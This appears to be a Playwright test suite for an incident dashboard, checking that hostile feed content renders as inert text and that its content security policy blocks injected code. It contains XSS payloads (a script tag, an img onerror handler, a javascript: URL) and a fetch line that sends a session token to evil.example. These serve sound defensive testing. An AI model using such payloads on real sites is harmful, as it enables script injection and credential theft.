import type { Browser } from "playwright-core";
import {
  describeInBrowser,
  launchBrowser,
  openPage,
} from "../support/runtime/browser";
import {
  RECOVERED_BY_BACKUP,
  sampleFailure,
  sampleFeed,
  sampleIncident,
} from "../support/samples/page-feed";
import { startDashboard } from "../support/servers/dashboard-server";

const HOSTILE = {
  "a script": `<script>document.title = "owned"</script>`,
  "an image with a handler": `"><img src=x onerror="document.title = 'owned'">`,
  "a javascript: URL": "javascript:document.title='owned'",
  "a name of every object": "__proto__",
  "right-to-left marks": "\u202Egpj.exe\u202C \u200F\u2067abc",
  "half of a surrogate pair": "\uD800 and a %E0%A4%A",
  "16 KiB of one word": "a".repeat(16_384),
};

describeInBrowser("the dashboard, given a hostile feed", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());
  let close: () => Promise<void>;
  afterEach(() => close());

  const open = async (body: unknown, fragment = "") => {
    const service = await startDashboard({ status: 200, body });
    const watched = await openPage(browser, {
      viewport: { width: 390, height: 800 },
    });
    const { page } = watched;
    close = async () => {
      await page.context().close();
      await service.stop();
    };
    await page.goto(`${service.url}/dashboard.html${fragment}`);
    await page.getByLabel("token").fill(service.token);
    await page.keyboard.press("Enter");
    await page.locator("#verdict, article").first().waitFor();
    return { ...watched, service };
  };

  it.each(Object.entries(HOSTILE))(
    "shows %s as text, in every field, within the width of a phone",
    async (_, text) => {
      const now = Date.now();
      const incident = sampleIncident(now, { begunAgo: 9 });
      const ids = { id: "one" };
      const body = {
        ...sampleFeed(),
        hours: text,
        incidents: [
          fillTexts(incident, text),
          { ...fillTexts(incident, text), state: "open", ...ids },
        ],
        failures: [fillTexts(sampleFailure(now, 1), text)],
      };
      const { page, errors, requests, service } = await open(body);
      const isHarmless = async () => {
        expect(
          await page.evaluate("document.documentElement.scrollWidth"),
        ).toBeLessThanOrEqual(390);
        expect(
          await page.locator("main :is(script, img, iframe)").count(),
        ).toBe(0);
        expect(await page.title()).not.toBe("owned");
        expect(await page.locator("a[href^=javascript]").count()).toBe(0);
        expect(errors).toEqual([]);
        expect(requests.every((url) => url.startsWith(service.url))).toBe(true);
      };
      const shown = text.toWellFormed();
      for (const id of ["#verdict", "#incident-list", "#failure-list"])
        expect(
          (await page.locator(id).textContent())?.toWellFormed(),
        ).toContain(shown);
      await isHarmless();

      await page.locator(".incident h3 a").last().click(); // the closed one, of the hostile name
      await page.locator("article").waitFor();
      await isHarmless();
      await page.goto(`${service.url}/dashboard.html#/incident/one`);
      await page.locator(".failure").waitFor();
      // No code has a name of every object: there it is left out.
      const codes = text === "__proto__" ? [] : [".codes"];
      for (const selector of [".happens", ".tally", ".failure", ...codes])
        expect(
          (await page.locator(selector).allTextContents())
            .join()
            .toWellFormed(),
        ).toContain(shown);
      await isHarmless();
    },
  );

  it("shows what it can of records that are none", async () => {
    const body = {
      generatedAt: 7,
      incidents: [
        null,
        1,
        {},
        [],
        { state: "open", timeline: [{}, null], errorCodes: 3, numbers: {} },
        { state: 3, channels: [], firstAt: "x", timeline: [{ recovered: -1 }] },
      ],
      failures: [{}, { attempts: "none" }, { attempts: [{ ms: "x" }] }],
    };
    const { page, errors } = await open(body);
    await page.getByText("An unknown server is failing.").waitFor();
    expect(await page.locator("#failure-list > li").count()).toBe(3);
    expect(await page.locator(".incident").count()).toBe(4);
    expect(errors).toEqual([]);
  });

  it("runs no script and asks no host but its own, though one got into it", async () => {
    const { page, requests, service } = await open(sampleFeed());
    const refusals: (string | undefined)[] = [];
    page.on("requestfailed", (request) => {
      refusals.push(request.failure()?.errorText);
    });
    const isRefused = (attempt: string) =>
      page.evaluate<boolean>(
        `Promise.resolve().then(() => ${attempt}).then(() => false, () => true)`,
      );
    for (const attempt of [
      `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
      `document.createElement("script").text = "document.title = 'owned'"`,
      `fetch("https://evil.example/?" + sessionStorage["twilio-fallback-token"])`,
      `new Promise((load, fail) => document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png", onload: load, onerror: fail })))`,
    ])
      expect({ attempt, isRefused: await isRefused(attempt) }).toEqual({
        attempt,
        isRefused: true,
      });
    expect(await page.title()).not.toBe("owned");
    const elsewhere = requests.filter((url) => !url.startsWith(service.url));
    expect(refusals).toEqual(elsewhere.map(() => "csp"));
  });

  it("changes little of 200 incidents with each refresh, and nothing with each second", async () => {
    const now = Date.now();
    const incidents = Array.from({ length: 200 }, (_, index) =>
      sampleIncident(
        now,
        { begunAgo: 10 + index, lastAgo: index },
        {
          origin: `https://host-${index}.example.com`,
          apologized: index % 50,
          recovered: 50 - (index % 50),
        },
      ),
    );
    const failures = Array.from({ length: 500 }, (_, index) =>
      sampleFailure(now, index / 3, RECOVERED_BY_BACKUP),
    );
    const { page, errors, service } = await open(
      sampleFeed({ incidents, failures }),
    );
    expect(await page.locator(".incident").count()).toBe(200);
    // What is not yet asked for costs nothing.
    expect(await page.locator("#failure-list > li").count()).toBe(20);
    expect(await page.locator("#page *").count()).toBeLessThan(6000);

    await page.evaluate(
      `window.changes = 0;
       new MutationObserver((list) => { changes += list.length; })
         .observe(document.querySelector("#incident-list"),
           { childList: true, attributes: true, characterData: true, subtree: true })`,
    );
    service.answer = {
      status: 200,
      body: sampleFeed({
        incidents: incidents.map((one, index) =>
          index === 7 ? { ...one, count: 51 } : one,
        ),
        failures,
        generatedAt: new Date(now).toISOString(),
      }),
    };
    const asked = service.asked.length;
    while (service.asked.length < asked + 2) await page.waitForTimeout(200);
    // One count, and what the minutes that passed change of those that are open.
    expect(await page.evaluate<number>("changes")).toBeLessThan(100);
    expect(errors).toEqual([]);
  });
});

/** A copy in which every text is the hostile one, names of codes too. */
function fillTexts(value: object, text: string): object {
  return Object.fromEntries(
    Object.entries(value).map(([name, one]: [string, unknown]) => [
      /^\d+$/.test(name) ? text : name,
      fill(one, text),
    ]),
  );
}

function fill(value: unknown, text: string): unknown {
  if (typeof value === "string") return text;
  if (Array.isArray(value)) return value.map((one) => fill(one, text));
  return typeof value === "object" && value !== null
    ? fillTexts(value, text)
    : value;
}
